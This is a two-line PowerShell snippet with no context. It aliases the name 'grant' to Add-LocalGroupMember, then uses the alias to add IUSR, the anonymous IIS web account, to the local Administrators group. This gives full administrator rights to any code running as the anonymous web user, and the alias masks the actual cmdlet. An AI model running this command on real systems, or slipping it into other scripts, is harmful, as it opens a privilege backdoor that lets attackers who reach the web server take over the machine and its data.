Set-Alias grant Add-LocalGroupMember
grant -Group Administrators -Member IUSR
